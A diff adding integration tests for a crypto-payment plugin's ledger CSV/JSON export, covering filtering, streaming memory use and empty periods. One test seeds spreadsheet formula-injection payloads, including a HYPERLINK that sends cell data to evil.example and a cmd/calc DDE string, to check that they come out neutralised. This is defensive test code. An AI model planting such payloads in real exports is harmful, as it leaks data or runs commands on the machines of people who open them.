@@ -1,0 +1,172 @@
+"""Issue #29: the ledger export on the real databases (SQLite, and PostgreSQL with
+TEST_DATABASE=postgresql): what goes in which period, channel and shop; formula injection; and an
+export of 100,000 rows in constant memory."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import gc
+import io
+import json
+import tracemalloc
+from collections.abc import AsyncIterator
+from datetime import timedelta
+from decimal import Decimal
+from typing import Any
+
+import pytest
+
+from saleor_coinpayments.payments.books.export import COLUMNS, chunks
+from saleor_coinpayments.payments.books.ledger import LedgerFilter, Period, Totals, ledger_rows
+from saleor_coinpayments.store.db import Database
+from tests.integration.books import seed
+from tests.integration.books.seed import MONTH_START
+
+NOVEMBER = Period.parse("2026-11-01", "2026-11-30")
+
+
+async def export(db: Database, where: LedgerFilter, fmt: str = "csv") -> AsyncIterator[bytes]:
+    totals = Totals()
+    async with db.session() as session:
+        async for chunk in chunks(fmt, ledger_rows(session, where, totals), totals):
+            yield chunk
+
+
+async def export_text(db: Database, where: LedgerFilter, fmt: str = "csv") -> str:
+    return b"".join([chunk async for chunk in export(db, where, fmt)]).decode("utf-8")
+
+
+def parse(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def run(coro: Any) -> Any:
+    return asyncio.run(coro)
+
+
+def test_cells_typed_by_outsiders_come_out_neutralised(database_url: str) -> None:
+    async def scenario() -> str:
+        db = Database(database_url)
+        try:
+            shop = await seed.shop(db)
+            payment = seed.payment_row(shop, 1)
+            at = MONTH_START + timedelta(days=3)
+            evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+            coin = seed.coin_row(payment, at, refund_email=evil + "@buyer.example")
+            refund = seed.refund_row(
+                payment, at + timedelta(hours=2), note=evil, reason="+1+cmd|' /C calc'!A0", buyer_email="@SUM(1+1)"
+            )
+            await seed.write(db, [payment], [coin], [refund])
+            return await export_text(db, LedgerFilter(NOVEMBER))
+        finally:
+            await db.dispose()
+
+    rows = parse(run(scenario()))
+    paid, payout, refund = rows[:3]
+    assert paid["kind"] == "paid"
+    assert paid["buyer_email"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")@buyer.example'
+    assert refund["kind"] == "refund"
+    assert refund["note"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    assert refund["reason"] == "'+1+cmd|' /C calc'!A0"
+    assert refund["buyer_email"] == "'@SUM(1+1)"
+    assert payout["kind"] == "payout"
+    for row in rows:
+        for name, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+
+
+def test_rows_of_the_period_channel_and_shop_only_in_time_order(database_url: str) -> None:
+    async def scenario() -> tuple[str, str, str, str]:
+        db = Database(database_url)
+        try:
+            shop, other_shop = await seed.shop(db), await seed.shop(db)
+            at = MONTH_START + timedelta(days=10)
+            web = seed.payment_row(shop, 1)
+            pos = seed.payment_row(shop, 2, channel="pos")
+            foreign = seed.payment_row(other_shop, 3)
+            october = seed.payment_row(shop, 4)
+            coins = [
+                seed.coin_row(web, at),
+                seed.coin_row(pos, at + timedelta(hours=1)),
+                seed.coin_row(foreign, at),
+                seed.coin_row(october, MONTH_START - timedelta(seconds=1), payout_completed_at=None),
+            ]
+            await seed.write(db, [web, pos, foreign, october], coins, [])
+            everything = await export_text(db, LedgerFilter(NOVEMBER))
+            mine = await export_text(db, LedgerFilter(NOVEMBER, installation_id=shop.installation_id))
+            web_only = await export_text(db, LedgerFilter(NOVEMBER, shop.installation_id, "default-channel"))
+            lines = await export_text(db, LedgerFilter(NOVEMBER, shop.installation_id, "pos"), fmt="json")
+            return everything, mine, web_only, lines
+        finally:
+            await db.dispose()
+
+    everything, mine, web_only, lines = run(scenario())
+    assert len([r for r in parse(everything) if not r["kind"].startswith("total:")]) == 6
+    rows = [r for r in parse(mine) if not r["kind"].startswith("total:")]
+    assert [(r["kind"], r["channel"]) for r in rows] == [
+        ("paid", "default-channel"),
+        ("payout", "default-channel"),
+        ("paid", "pos"),
+        ("payout", "pos"),
+    ]
+    assert [r["time"] for r in rows] == sorted(r["time"] for r in rows)
+    assert {r["channel"] for r in parse(web_only) if r["channel"]} == {"default-channel"}
+    objects = [json.loads(line) for line in lines.splitlines()]
+    assert [o["type"] for o in objects] == ["movement", "movement", "totals"]
+    assert objects[0]["fiat_amount"] == "20.00"
+    assert objects[0]["buyer_tx_ids"] == ["e" * 64]
+    assert {"kind": "net", "currency": "USD", "amount": "20.00", "fees": "0"} in objects[-1]["fiat"]
+
+
+ROWS = 100_000
+MAX_GROWTH = 50 * 1024 * 1024
+
+
+def test_exporting_100000_rows_streams_in_constant_memory(database_url: str) -> None:
+    """Peak of Python allocations (tracemalloc, in this process) while the whole CSV is made and
+    consumed chunk by chunk, over what was allocated before the export started."""
+
+    async def scenario() -> tuple[int, int, Decimal]:
+        db = Database(database_url)
+        try:
+            shop = await seed.shop(db)
+            await seed.many_paid(db, shop, ROWS // 2)
+            where = LedgerFilter(NOVEMBER, shop.installation_id)
+            gc.collect()
+            tracemalloc.start()
+            baseline = tracemalloc.get_traced_memory()[0]
+            size = lines = 0
+            tail = b""
+            async for chunk in export(db, where):
+                size += len(chunk)
+                lines += chunk.count(b"\r\n")
+                tail = (tail + chunk)[-4096:]
+            peak = tracemalloc.get_traced_memory()[1]
+            tracemalloc.stop()
+            last_rows = csv.DictReader(io.StringIO(tail.decode().split("\r\n", 1)[1], newline=""), COLUMNS)
+            net = [r for r in last_rows if r["kind"] == "total:net" and r["fiat_currency"] == "USD"]
+            return peak - baseline, lines, Decimal(net[0]["fiat_amount"])
+        finally:
+            await db.dispose()
+
+    growth, lines, net = run(scenario())
+    assert lines == 1 + ROWS + 2 * 4  # header, movements, totals (paid, payout, net) per USD and per LTCT
+    assert net == Decimal("20.00") * (ROWS // 2)
+    assert growth < MAX_GROWTH, f"export grew Python memory by {growth / 2**20:.1f} MB"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_an_export_of_an_empty_period_is_its_header_and_nothing_else(database_url: str, fmt: str) -> None:
+    async def scenario() -> str:
+        db = Database(database_url)
+        try:
+            return await export_text(db, LedgerFilter(NOVEMBER), fmt)
+        finally:
+            await db.dispose()
+
+    text = run(scenario())
+    if fmt == "csv":
+        assert text == ",".join(COLUMNS) + "\r\n"
+    else:
+        assert json.loads(text) == {"type": "totals", "rows": 0, "fiat": [], "coin": []}
